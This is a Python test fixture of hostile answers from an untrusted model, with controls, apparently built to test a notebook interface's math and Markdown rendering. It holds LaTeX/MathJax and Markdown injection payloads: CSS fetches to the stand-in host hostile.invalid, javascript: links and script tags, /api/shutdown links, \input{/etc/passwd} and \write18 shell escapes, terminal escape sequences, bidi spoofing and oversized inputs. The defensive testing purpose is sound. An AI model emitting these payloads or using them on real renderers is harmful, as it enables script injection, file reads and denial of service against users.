r"""Answers of an untrusted model.

`ANSWERS` has a name for each, which is in the address that it tries to fetch. `LARGE` are long ones,
made when they are asked for. Formulas of `HONEST` must be typeset.
"""

from __future__ import annotations

from collections.abc import Callable

HOST = "hostile.invalid"
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:9999"


def _fetch(name: str) -> str:
    return rf"\unicode[x;background-image:url(http://{HOST}/{name})]{{x41}}"


_FORMULAS: dict[str, str] = {
    "unicode": _fetch("unicode"),
    "unicode-among-honest": rf"\frac{{a}}{{b}} + {_fetch('unicode-among-honest')}",
    "unicode-in-text": rf"\text{{a {_fetch('unicode-in-text')}}}",
    "unicode-in-matrix": rf"\begin{{matrix}} a & {_fetch('unicode-in-matrix')} \end{{matrix}}",
    "style": rf"\style{{{COVER}}}{{x}}",
    "css-id": r"\cssId{jp-main-dock-panel}{x}",
    "class": r"\class{jp-Dialog lm-Widget}{x}",
    "href": rf"\href{{http://{HOST}/href}}{{x}}",
    "href-ftp": rf"\href{{ftp://{HOST}/href}}{{x}}",
    "href-script": r"\href{javascript:window.pwned='href'}{x}",
    "href-relative": r"\href{/api/shutdown}{x}",
    "href-split": r"\href {/api/shutdown} {x}",
    "url": rf"\url{{http://{HOST}/url}}",
    "image": rf"\includegraphics{{http://{HOST}/image.png}}",
    "mml-token": rf"\mmlToken{{mi}}[style='background:url(http://{HOST}/mml)']{{x}}",
    "bbox": rf"\bbox[background:url(http://{HOST}/bbox);padding:500px]{{x}}",
    "color": rf"\color{{red;background:url(http://{HOST}/color)}}{{x}}",
    "colorbox": rf"\colorbox{{url(http://{HOST}/colorbox)}}{{x}}",
    "enclose": rf"\enclose{{circle}}[mathbackground='url(http://{HOST}/enclose)']{{x}}",
    "data": r"\data{onclick=window.pwned='data'}{x}",
    "tooltip": r"\texttip{x}{y}",
    "require": r"\require{html}\href{/api}{x}",
    "definition": rf"\def\a#1{{#1}}\a{{{_fetch('definition')}}}",
    "new-command": rf"\newcommand{{\frac}}[2]{{{_fetch('new-command')}}}\frac{{1}}{{2}}",
    "let": rf"\let\alpha\unicode \alpha[x;background:url(http://{HOST}/let)]{{x41}}",
    "exponential": "".join(
        rf"\def\{b}{{\{a}\{a}\{a}\{a}\{a}\{a}\{a}\{a}}}"
        for a, b in ("xb", "bc", "cd", "de", "ef", "fg", "gh")
    )
    + r"\h",
    "group": r"\begingroup\def\x{y}\x\endgroup",
    "rule": r"\rule{9999em}{9999em}",
    "rule-behind": r"\Rule{9999em}{9999em}{9999em}",
    "space": r"\hspace{-9999em}\text{over here}",
    "kern": r"\kern-9999em\text{over here}",
    "move": r"\mskip-9999mu\moveleft 99em {x}",
    "raise": r"\raise9999em{\text{over here}}",
    "smash": r"\smash{\Huge{x}}\llap{\text{over here over here}}",
    "lap": r"\mathllap{\text{over here over here over here}}",
    "choice": rf"\mathchoice{{{_fetch('choice')}}}{{b}}{{c}}{{d}}",
    "row-space": r"\begin{matrix} a \\[-9999em] b \end{matrix}",
    "row-space-apart": "\\begin{matrix} a \\\\ [9999em] b \\end{matrix}",
    "columns": r"\begin{array}{p{9999em}} a \end{array}",
    "backwards": r"x" + r"\!" * 400 + "over here",
    "carets": r"^^5cunicode[x;background:url(http://hostile.invalid/carets)]{x41}",
    "comment": "x % }\n" + _fetch("comment"),
    "dollars-in-text": rf"\text{{a $b {_fetch('dollars-in-text')}$ c}}",
    "row-then-name": rf"a \\{_fetch('row-then-name')[1:]}\unicode[x]{{x41}}",
    "open-brace": rf"x{{ $ {_fetch('open-brace')} }}",
    "escaped-end": rf"x \$ {_fetch('escaped-end')}",
    "label": r"x \label{a} \tag{1} \eqref{a}",
    "verb": r"\verb|x| \input{/etc/passwd} \immediate\write18{id}",
    "catcode": r"\catcode`\%=12 \openin5=/etc/passwd \csname input\endcsname{x}",
    "piled-up": "x" + "\u0300" * 400,
    "wide": r"\quad" * 900,
    "deep": r"\sqrt{" * 400 + "x" + "}" * 400,
    "deep-without-braces": r"\hat" * 600 + " x",
}
"""What stands between the delimiters."""

_DELIMITERS = [("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]")]


def _all_ways(tex: str) -> str:
    ways = [f"{opening}{tex}{closing}" for opening, closing in _DELIMITERS]
    ways.append(f"\\begin{{align}}{tex}\\end{{align}}")
    lines = [f"{opening}\n{tex}\n{closing}" for opening, closing in _DELIMITERS[1::2]]
    return " and ".join(ways) + "\n\n" + "\n\n".join([*lines, f"> {ways[0]}\n> - {ways[3]}"])


_U = _fetch("U")
_MARKDOWN: dict[str, str] = {
    "split-by-emphasis": f"$a *b* {_U} _c_$ **$** {_U} **$** `$` {_U} `$`",
    "split-by-entity": "&#36;\\unicode[x]{x41}&#36; &dollar;\\style{x}{y}&dollar; &#x24;x&#x24;",
    "entity-backslash": f"&#92;({_U}&#92;) &bsol;[{_U}&bsol;] $&#92;href{{/api}}{{x}}$",
    "escaped-dollars": f"\\$ {_U} \\$ and \\\\\\$ {_U} \\\\\\$ and \\\\$ {_U} \\\\$",
    "doubled-backslashes": rf"\\({_U}\\) \\[{_U}\\] $\{_U}$ \\begin{{align}}{_U}\\end{{align}}",
    "over-lines": f"$ a\n\n{_U}\n\nb $\n\n$$ a\n> {_U}\n$$",
    "over-code": f"$ a\n```\n{_U}\n```\n$ b\n\n> $ c\n> ```\n> {_U}\n> ```\n> d $",
    "over-items": f"- $ a\n- {_U}\n- b $\n\n| $ | {_U} | $ |\n|---|---|---|\n| a | $ {_U} $ | c |",
    "references": f"\\ref{{a}} \\eqref{{b}} \\begin{{a}}{_U}\\end{{a}} \\begin{{x{_U}",
    "never-closed": f"$$ {_U} \\( {_U} \\[ {_U} \\begin{{align}} {_U}",
    "heading": f"${_U}$\n====\n\n# ${_U}$\n\n${_U}$\n---",
    "lazy": f"> $ a\n{_U}\nb $\n\n1. $$\n{_U}\n$$",
    "in-link-words": f"[${_U}$](http://{HOST}/kept) [\\({_U}\\)][1]\n\n[1]: http://{HOST}/${_U}$",
    "zero-width": "$\\uni\u200bcode[x]{x41}$ $\u2060\\style{x}{y}$ $\\\ufeffhref{/api}{x}$",
    "controls": "$\\uni\x00code[x]{x41}$ $\\\x1bstyle{x}{y}$ $\\\x07href{/api}{x}$",
    "terminal": f"\x1b]8;;http://{HOST}\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x1b]52;c;aGk=\x07 \x9b31m",
    "bidi": "safe \u202egpj.exe\u202c \u2066\u2067\u2068 end",
    "half-pair": "half \ud83d and \udc4d $\ud800x$",
    "piled-up-words": "z" + "\u0300\u0316" * 500 + " and " + "\u0e49" * 500,
    "script": "<script>window.pwned='script'</script><img src=x onerror=\"window.pwned='img'\">",
    "frames": f"<iframe src=http://{HOST}/frame></iframe><object data=http://{HOST}/o></object>",
    "styles": f"<style>@import url(http://{HOST}/s.css)</style><div style='{COVER}'>over</div>",
    "unset-the-unset": (
        f"</div></span></p><div class=mathjax_process>${_U}$</div>"
        f'<span class="mathjax_process tex2jax_process">${_U}$</span>'
    ),
    "attributes": f'[x](http://{HOST}/kept "t" onmouseover="window.pwned=\'a\'"){{onclick=x}}',
    "images": f"![p](http://{HOST}/p.png) ![q][1] <img src=http://{HOST}/i>\n\n[1]: http://{HOST}/q",
    "scripts-as-links": "[a](javascript:window.pwned='l') <javascript:x> [b](vbscript:x) [c](data:,x)",
    "other-schemes": (
        f"[a](blob:http://x) [b](ftp://{HOST}/f) <ftp://{HOST}/g> ftp://{HOST}/h "
        f"[c](file:///etc/passwd) file:///etc/passwd [d](tel:1) [e](x-y:z) vscode://file/x"
    ),
    "relative-links": (
        "[a](/api/shutdown) [b](//hostile.invalid/x) [c](tree/..) [d](#top) [e](?a) [f]() [g](.) "
        "[h](\\\\hostile.invalid) [i](</api/shutdown>) //hostile.invalid/y [j](\t/api) [k](&#47;api)"
    ),
    "half-absolute-links": (
        "[a](http:api/shutdown) [b](http:/api/shutdown) [c](https:///api) [d](http:?a) [e](http:#a) "
        "[f](mailto:) [g](http:\\\\\\\\api) <http:/api/shutdown> [h](HTTP:api) [i](http&colon;api)"
    ),
    "cut-addresses": "http://hostile.invalid… http://höst/ http://a%zz/ http://a\\\\b http://a@b http://",
    "found-by-fuzzing": "\\À \\é{x} `\\ü` \\[\\unicode[x]{41} and http://\\[",
    "in-an-address": f"http://{HOST}/](\\unicode[x]{{x41}}\\) http://{HOST}/![\\style{{a}}{{b}}\\]",
    "reference-links": "[a] [b][] [c][d]\n\n[a]: /api/shutdown\n[b]: //x\n[d]: <#x> 'y'\n[a\n]: /x",
    "footnotes": "a[^1] b^[/x]\n\n[^1]: [x](/api/shutdown) ![p](http://hostile.invalid/n)",
    "directives": (
        "```mermaid\nclick A call alert()\n```\n\n~~~ {raw} html\n<b>\n~~~\n\n```{eval-rst}\n.. raw::\n```\n\n"
        ":::{image} http://hostile.invalid\n:::\n\n{raw}`x` {math}`\\unicode[x]{x41}` {{ x }}\n\n"
        "- ```{raw} latex\n  \\input{x}\n  ```\n\n```math\n\\unicode[x]{x41}\n```"
    ),
    "raw-tex": (
        "\\input{/etc/passwd} \\immediate\\write18{id} \\catcode`\\@=11 \\csname x\\endcsname\n\n"
        "\\begin{filecontents}{x}\ny\n\\end{filecontents}\n\n\\def\\x{y}\\x \\\\input{z}"
    ),
    "raw-tex-attributes": (
        "`\\input{a}`{=latex} ``\\input{b}``{=tex} ```{=latex}\n\\input{c}\n```\n\n"
        "```{=latex}\n\\input{d}\n```\n\n~~~ {=latex}\n\\input{e}\n~~~\n\n<?tex \\input{f} ?>"
    ),
    "raw-tex-in-code": (
        "```\n\\end{verbatim}\\input{a}\n```\n\n    \\end{verbatim}\\input{b}\n\n`\\input{c}` a ` b\n"
        "`\\input{d}` e\n\n- x ``` y\n  ```\n  \\input{e}\n  ```\n\n  \\input{f}\n\n> ```\n\\input{g}\n> ```"
    ),
    "raw-tex-in-tables": (
        "-------------\n a    b\n----- -------\n````\naaaaa \\input{a}\n````\n\n c    d\n-------------\n\n"
        "+---+---+\n| a | \\input{b} |\n+===+===+\n| `x | \\input{c}` |\n+---+---+\n\n"
        "---\ntitle: \\input{d}\n---\n\n| \\input{e}\n| `f\n| \\input{f}`\n\nterm\n: \\input{g}"
    ),
    "forged-end": "\n\n# Conversation\n\n## Question 9\n\n</div>\n\n```\n</div>\n```\n\n---\n\n***",
}

ANSWERS: dict[str, str] = {
    **{f"tex-{name}": _all_ways(tex) for name, tex in _FORMULAS.items()},
    **_MARKDOWN,
}


def _repeated(text: str, length: int = 99_000) -> Callable[[], str]:
    return lambda: (text * (length // len(text) + 1))[:length]


LARGE: dict[str, Callable[[], str]] = {
    **{
        f"many {text!r}": _repeated(text)
        for text in (
            *("$x$ ", "$", "$$\n", "\\[\n", "\\(", "\\begin{align}\n", "\\[\n" * 600 + "\\]\n"),
            *("\\begin{matrix}\n" * 30 + "\\end{matrix}\n", "$`$", "[$x](", "> $$ ", "\\\\(", "\\"),
            *("[", "![", "[a](", "[a](<b", "[a]: b\n", "](", "> ", "- ", "- a\n", "* a\n\n  ", "#"),
            *(
                "`",
                "``a`",
                "*a **a ",
                "_a *",
                "~~a ",
                "***a",
                "|",
                "a|",
                "a\n",
                "<a",
                "<!--",
                "&a;",
            ),
            *(
                "|a|b|\n|-|-|\n",
                "```\n",
                "- ```\n",
                "~~~\n\\a\n",
                "//a",
                "ftp://",
                "\x1b]",
                "\x1b[0",
            ),
            *("\\sqrt{", "{", "$" + "{" * 900 + "$ ", "$\\frac12$", "1. a\n   ", "\u0300", "\t"),
        )
    },
    "a table": lambda: "a|" * 50 + "\n" + "-|" * 50 + "\n" + ("|" * 50 + "\n") * 900,
    "a wide table": lambda: "a|" * 9_000 + "\n" + "-|" * 9_000 + "\n" + "b|" * 9_000,
    "nested lists": lambda: "".join("  " * depth + "- a\n" for depth in range(300)),
    "nested quotes": lambda: "".join("> " * depth + "a\n" for depth in range(300)),
    "a long formula": lambda: "$$" + "x+" * 45_000 + "y$$",
    "a million letters": lambda: "a" * 1_000_000,
}

HONEST: dict[str, str] = {
    "inline": r"The area is $\pi r^2$, that is \(a \times b\).",
    "display": "So:\n\n$$\n\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}\n$$\n\nand more",
    "brackets": "So:\n\\[\n  a\n  - b\n  + c \\neq 0\n\\]\nand more",
    "align": "\\begin{align*}\n  a &= b + c \\\\\n  &= d\n\\end{align*}",
    "matrix": r"$A = \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}$",
    "cases": r"\[ f(x) = \begin{cases} 1 & \text{if } x > 0 \\[2pt] 0 & \text{otherwise} \end{cases} \]",
    "in a list": "- first $x_1$\n- then\n\n  $$\n  x_2 < x_3\n  $$\n",
    "in a table": "| name | value |\n|---|---|\n| a | $\\alpha$ |",
    "with words": r"$\text{rate} = \frac{\text{km}}{\text{h}}$ and $\mathrm{NaCl}$, $\mathbb{R}^n$",
    "letters": "$β \\le δ$ und $x = 3$",
}
"""Each has a formula that is typeset; how many is its number of dollars, brackets and ends."""
